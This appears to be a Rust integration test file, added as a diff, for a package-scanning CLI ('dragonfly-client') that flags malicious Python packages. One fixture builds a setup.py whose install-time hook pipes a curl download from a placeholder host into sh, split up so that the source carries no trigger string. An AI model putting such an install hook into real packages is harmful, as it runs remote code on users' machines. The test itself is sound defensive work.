@@ -1,0 +1,217 @@
+//! The `dragonfly-client` binary, run as a user would.
+
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use dragonfly_testkit::fixtures::{self, FixtureFile};
+use dragonfly_testkit::server::{Distribution, Endpoint, FakeServer, Fault, FaultAction, ServerConfig};
+use serde_json::Value;
+
+fn bin() -> Command {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_dragonfly-client"));
+    // Keep the tests independent of the developer's environment.
+    for (key, _) in std::env::vars() {
+        if key.starts_with("DRAGONFLY_") {
+            command.env_remove(key);
+        }
+    }
+    command.stdin(Stdio::null());
+    command
+}
+
+fn run(command: &mut Command) -> (i32, String, String) {
+    let Output { status, stdout, stderr } = command.output().expect("binary runs");
+    (status.code().unwrap_or(-1), String::from_utf8_lossy(&stdout).into(), String::from_utf8_lossy(&stderr).into())
+}
+
+/// A setup.py that runs a shell command at install time, assembled at
+/// runtime so this source file carries no trigger string.
+fn install_hook_setup_py() -> Vec<u8> {
+    let system = ["os.", "system"].concat();
+    format!(
+        "import os\nfrom setuptools import setup\n{system}('curl -s http://example.invalid/x | sh')\nsetup(name='evil')\n"
+    )
+    .into_bytes()
+}
+
+fn write_fixtures(dir: &Path) -> (String, String) {
+    let evil = fixtures::sdist("evil", "1.0", &[FixtureFile { path: "setup.py".into(), data: install_hook_setup_py() }]);
+    let clean = fixtures::wheel(
+        "clean",
+        "2.0",
+        &[FixtureFile { path: "clean/__init__.py".into(), data: b"def add(a, b):\n    return a + b\n".to_vec() }],
+    );
+    let evil_path = dir.join(fixtures::sdist_filename("evil", "1.0"));
+    let clean_path = dir.join(fixtures::wheel_filename("clean", "2.0"));
+    std::fs::write(&evil_path, evil).unwrap();
+    std::fs::write(&clean_path, clean).unwrap();
+    (evil_path.display().to_string(), clean_path.display().to_string())
+}
+
+#[test]
+fn scan_json_table_and_exit_status() {
+    let dir = tempfile::tempdir().unwrap();
+    let (evil, clean) = write_fixtures(dir.path());
+
+    let (code, stdout, stderr) = run(bin().args(["scan", "--format", "json", &evil, &clean]));
+    assert_eq!(code, 0, "{stderr}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    let items = report.as_array().unwrap();
+    assert_eq!(items.len(), 2);
+    assert_eq!((items[0]["name"].as_str(), items[0]["version"].as_str()), (Some("evil"), Some("1.0")));
+    let score = items[0]["score"].as_i64().unwrap();
+    assert!(score > 0, "{stdout}");
+    assert!(!items[0]["rules_matched"].as_array().unwrap().is_empty());
+    assert_eq!(items[0]["files"][0]["path"], "evil-1.0/setup.py");
+    assert!(items[0]["commit"].as_str().unwrap().starts_with("bundled-"));
+    assert_eq!(items[0]["inspector_url"], Value::Null, "local files have no inspector link");
+    assert_eq!((items[1]["name"].as_str(), items[1]["score"].as_i64()), (Some("clean"), Some(0)));
+    for key in ["name", "version", "score", "inspector_url", "rules_matched", "commit", "files", "errors"] {
+        assert!(items[1].get(key).is_some(), "missing {key}");
+    }
+
+    let threshold = score.to_string();
+    let (code, stdout, _) = run(bin().args(["scan", "--fail-score", &threshold, &evil, &clean]));
+    assert_eq!(code, 1, "{stdout}");
+    assert!(stdout.starts_with("PACKAGE"), "{stdout}");
+    assert!(stdout.contains("evil 1.0") && stdout.contains("evil-1.0/setup.py"), "{stdout}");
+    let above = (score + 1).to_string();
+    let (code, _, _) = run(bin().args(["scan", "--fail-score", &above, &evil]));
+    assert_eq!(code, 0);
+}
+
+#[test]
+fn scan_errors_exit_2_with_clear_messages() {
+    let dir = tempfile::tempdir().unwrap();
+    let missing = dir.path().join("nope-1.0.tar.gz");
+    let (code, stdout, _) = run(bin().args(["scan", missing.to_str().unwrap()]));
+    assert_eq!(code, 2);
+    assert!(stdout.contains("can not read") && stdout.contains("nope-1.0.tar.gz"), "{stdout}");
+
+    let junk = dir.path().join("junk-1.0.tar.gz");
+    std::fs::write(&junk, b"\x89PNG\r\n\x1a\nnot an archive").unwrap();
+    let (code, stdout, _) = run(bin().args(["scan", junk.to_str().unwrap()]));
+    assert_eq!(code, 2);
+    assert!(stdout.contains("unsupported"), "{stdout}");
+
+    let rules = dir.path().join("bad.yar");
+    std::fs::write(&rules, "rule ok { condition: true }\nrule bad { condition: and }\n").unwrap();
+    let (code, _, stderr) = run(bin().args(["scan", "--rules", rules.to_str().unwrap(), junk.to_str().unwrap()]));
+    assert_eq!(code, 2);
+    assert!(stderr.contains("bad.yar") && stderr.contains("line 2"), "{stderr}");
+}
+
+#[test]
+fn scan_directory_and_custom_rules() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = dir.path().join("proj-0.1");
+    std::fs::create_dir_all(project.join("pkg")).unwrap();
+    std::fs::write(project.join("pkg/a.py"), "token = 'needle-xyz'\n").unwrap();
+    std::fs::write(project.join("notes.txt"), "needle-xyz\n").unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::write(
+        rules.join("r.yar"),
+        "rule needle { meta: weight = 4 filetype = \".py\" strings: $a = \"needle-xyz\" condition: $a }",
+    )
+    .unwrap();
+    let (code, stdout, stderr) = run(bin().args([
+        "scan",
+        "--format",
+        "json",
+        "--rules",
+        rules.to_str().unwrap(),
+        project.to_str().unwrap(),
+    ]));
+    assert_eq!(code, 0, "{stderr}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(report[0]["name"], "proj");
+    assert_eq!(report[0]["version"], "0.1");
+    assert_eq!(report[0]["score"], 4);
+    assert_eq!(report[0]["files"].as_array().unwrap().len(), 1, "notes.txt is not a .py file");
+    assert_eq!(report[0]["files"][0]["path"], "pkg/a.py");
+    assert_eq!(report[0]["files_skipped"], 1);
+}
+
+#[test]
+fn scan_url_downloads_into_memory() {
+    let server = FakeServer::start(ServerConfig::default()).unwrap();
+    let sdist = fixtures::sdist("evil", "1.0", &[FixtureFile { path: "setup.py".into(), data: install_hook_setup_py() }]);
+    let urls = server.add_package(
+        "evil",
+        "1.0",
+        vec![Distribution { filename: fixtures::sdist_filename("evil", "1.0"), bytes: sdist }],
+    );
+    let (code, stdout, stderr) = run(bin().args(["scan", "--format", "json", &urls[0]]));
+    assert_eq!(code, 0, "{stderr}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert!(report[0]["score"].as_i64().unwrap() > 0, "{stdout}");
+    let link = report[0]["inspector_url"].as_str().unwrap();
+    assert!(link.starts_with("https://inspector.pypi.io/project/evil/1.0/packages/"), "{link}");
+    assert!(link.ends_with("/evil-1.0/setup.py"), "{link}");
+}
+
+#[test]
+fn config_masks_secrets_and_rejects_bad_values() {
+    let dir = tempfile::tempdir().unwrap();
+    let (code, stdout, stderr) = run(
+        bin()
+            .arg("config")
+            .current_dir(dir.path())
+            .env("DRAGONFLY_AUTH_MODE", "token")
+            .env("DRAGONFLY_TOKEN", "super-secret-token-value"),
+    );
+    assert_eq!(code, 0, "{stderr}");
+    assert!(!stdout.contains("super-secret-token-value"), "{stdout}");
+    assert!(stdout.contains("token = \"***\""), "{stdout}");
+
+    let (code, _, stderr) = run(bin().arg("config").current_dir(dir.path()).env("DRAGONFLY_THREADS", "0"));
+    assert_eq!(code, 2);
+    assert!(stderr.contains("DRAGONFLY_THREADS"), "{stderr}");
+}
+
+#[test]
+fn sigterm_finishes_held_jobs_and_exits_0() {
+    let server = FakeServer::start(ServerConfig::default()).unwrap();
+    let rules = dragonfly_engine::RuleSet::bundled_sources().map(|(n, s)| (n.to_owned(), s.to_owned())).collect();
+    server.set_rules("r1", rules);
+    server.add_fault(Fault {
+        endpoint: Endpoint::Download,
+        action: FaultAction::Delay(Duration::from_millis(200)),
+        rate: 1.0,
+        limit: None,
+    });
+    for i in 0..4 {
+        let name = format!("sig{i}");
+        let files = [FixtureFile { path: "m.py".into(), data: b"x = 1\n".to_vec() }];
+        let dist = Distribution { filename: fixtures::sdist_filename(&name, "1.0"), bytes: fixtures::sdist(&name, "1.0", &files) };
+        server.add_package(&name, "1.0", vec![dist]);
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let mut child = bin()
+        .arg("run")
+        .current_dir(dir.path())
+        .env("DRAGONFLY_BASE_URL", server.url())
+        .env("DRAGONFLY_AUTH_MODE", "none")
+        .env("DRAGONFLY_THREADS", "2")
+        .env("DRAGONFLY_BULK_SIZE", "4")
+        .env("DRAGONFLY_WAIT_DURATION", "1")
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let started = Instant::now();
+    while server.stats().leases_handed_out == 0 && started.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(server.stats().leases_handed_out > 0, "the node leased nothing");
+    let killed = Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap();
+    assert!(killed.success());
+    let output = child.wait_with_output().unwrap();
+    let log = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{log}");
+    let delivered = server.results().iter().filter(|r| r.status == 200).count() as u64;
+    assert_eq!(delivered, server.stats().leases_handed_out, "every held job reported: {log}");
+    assert!(log.contains("finishing held jobs"), "{log}");
+}
